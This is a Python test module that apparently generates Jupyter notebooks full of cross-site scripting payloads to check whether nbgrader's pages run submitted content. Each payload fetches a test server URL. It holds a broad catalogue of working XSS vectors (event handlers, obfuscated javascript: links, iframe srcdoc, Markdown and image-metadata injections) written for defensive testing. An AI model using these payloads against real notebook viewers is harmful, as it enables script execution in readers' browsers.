"""Attacks of a submission on the browser of a reader; an attack that works requests /hit/NAME from a server."""

from __future__ import annotations

import base64
import struct
import zlib
from collections.abc import Callable, Iterable
from dataclasses import dataclass
from typing import Any

Where = Callable[[str], str]
"""A function that returns the URL on the server for the name of an attack."""


def png(width: int = 1, height: int = 1) -> str:
    """Return a PNG picture as base64; its header has this width and height, in pixels."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    head = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return base64.b64encode(
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(b"\0\0")) + chunk(b"IEND", b"")
    ).decode()


@dataclass(frozen=True)
class Attack:
    """One attack, as a cell of a student."""

    name: str
    text: str = ""
    """Source of a Markdown cell.

    RUN stands for a script that requests the URL, URL for the URL, HERE for the URL without its scheme.
    """
    outputs: tuple[dict[str, Any], ...] = ()
    """Outputs of a code cell; empty for a Markdown cell."""

    def cell(self, where: Where) -> dict[str, Any]:
        """Return the attack as a cell of a notebook file."""
        url = where(self.name)
        cell: dict[str, Any] = {"id": self.name, "metadata": {}, "source": _with_url(self.text, url)}
        if self.outputs:
            return {**cell, "cell_type": "code", "execution_count": 1, "outputs": _with_url(list(self.outputs), url)}
        return {**cell, "cell_type": "markdown"}


def _with_url(value: Any, url: str) -> Any:
    """Return a value with RUN, HERE and URL replaced in all its strings."""
    if isinstance(value, str):
        # A space would end a link, and http: would begin another link inside a script.
        here = url.removeprefix("http:")
        return value.replace("RUN", f"void(fetch('{here}'))").replace("HERE", here).replace("URL", url)
    if isinstance(value, dict):
        return {_with_url(name, url): _with_url(item, url) for name, item in value.items()}
    return [_with_url(item, url) for item in value] if isinstance(value, list) else value


def _display(name: str, data: dict[str, Any], metadata: dict[str, Any] | None = None) -> Attack:
    """Return an attack by displayed data."""
    return Attack(name, outputs=({"output_type": "display_data", "data": data, "metadata": metadata or {}},))


HTML = {
    "script": "<script>RUN</script>",
    "onerror": '<img src="data:," onerror="RUN">',
    "svg-onload": '<svg onload="RUN"></svg>',
    "svg-script": "<svg><script>RUN</script></svg>",
    "iframe": '<iframe src="URL"></iframe>',
    "iframe-srcdoc": '<iframe srcdoc="<script>RUN</script>"></iframe>',
    "object": '<object data="URL"></object>',
    "embed": '<embed src="URL">',
    "video": '<video src="URL" autoplay></video>',
    "remote-image": '<img src="URL">',
    "remote-style": '<link rel="stylesheet" href="URL">',
    "style": "<style>@import url(HERE);</style>",
    "style-attribute": '<div style="background: url(URL)">x</div>',
    "toggle": '<details open ontoggle="RUN"><summary>x</summary></details>',
    "click": '<a href="javascript:RUN">x</a>',
    "click-hidden": '<a href="&#106;ava&#x09;script:RUN">x</a>',
    "click-svg": '<svg><a href="javascript:RUN"><text y="20">x</text></a></svg>',
    "unclosed": '<p><img src="data:," onerror="RUN"',
    "wild-case": '<ImG SrC="data:," OnErRoR="RUN">',
    "slash": '<img/src="data:,"/onerror="RUN">',
}
"""Attacks by displayed HTML, and by HTML within Markdown."""

MARKDOWN = {
    "link": "[x](javascript:RUN)",
    "link-reference": "[x][y]\n\n[y]: javascript:RUN",
    "link-entity": "[x](java&#115;cript:RUN)",
    "link-automatic": "<javascript:RUN>",
    "link-prefix": "[x](files/javascript:RUN)",
    "image": "![x](URL)",
    "image-reference": "![x][y]\n\n[y]: URL",
    "image-in-link": "[![x](URL)](https://example.org)",
    "diagram": "```mermaid\n<img src='data:,' onerror=\"RUN\">\n```",
    "heading": '# a <img src="data:," onerror="RUN">',
    "quote": '> > a <img src="data:," onerror="RUN">',
    "list": '- a\n  - <img src="data:," onerror="RUN">',
    "table": '| a |\n|---|\n| <img src="data:," onerror="RUN"> |',
    "block-in-tag": '<b>\n<img src="data:," onerror="RUN">\n</b>',
    "beside-math": '$a < b$ <img src="data:," onerror="RUN"> $c > d$',
}
"""Attacks by Markdown."""

OUTPUTS = [
    *(_display(f"html-{name}", {"text/html": html}) for name, html in HTML.items()),
    *(_display(f"shown-markdown-{name}", {"text/markdown": text}) for name, text in MARKDOWN.items()),
    # Only once, because a page gives the focus to one element.
    _display("focus", {"text/html": '<input autofocus onfocus="RUN">'}),
    _display("javascript", {"application/javascript": "</script><script>RUN</script>"}),
    _display("isolated", {"text/html": "<script>fetch('URL')</script>"}, {"text/html": {"isolated": True}}),
    _display("picture-width", {"image/png": "AAAA"}, {"image/png": {"width": "1 onerror=fetch(`URL`)"}}),
    _display("picture-file", {"image/png": png()}, {"filenames": {"image/png": "URL"}}),
    _display("picture-jpeg-file", {"image/jpeg": "/9j/"}, {"filenames": {"image/jpeg": "URL"}}),
]

MARKDOWNS = [
    *(Attack(f"markdown-{name}", text) for name, text in MARKDOWN.items()),
    *(Attack(f"markdown-html-{name}", html) for name, html in HTML.items()),
    *(Attack(f"markdown-inline-{name}", f"a {html} b") for name, html in HTML.items()),
]

DISARMED = {
    "markdown-inline-unclosed", "shown-markdown-link-prefix",
    "markdown-html-slash", "markdown-inline-slash",
}  # fmt: skip
"""Attacks that don't work on nbgrader's pages, because nbconvert parses and writes each page once more."""

ATTACKS = [*OUTPUTS, *MARKDOWNS]


def notebook_of(attacks: Iterable[Attack], where: Where) -> dict[str, Any]:
    """Return a notebook file with one cell for each attack."""
    cells = [attack.cell(where) for attack in attacks]
    return {"cells": cells, "metadata": {"language_info": {"name": "python"}}, "nbformat": 4, "nbformat_minor": 5}
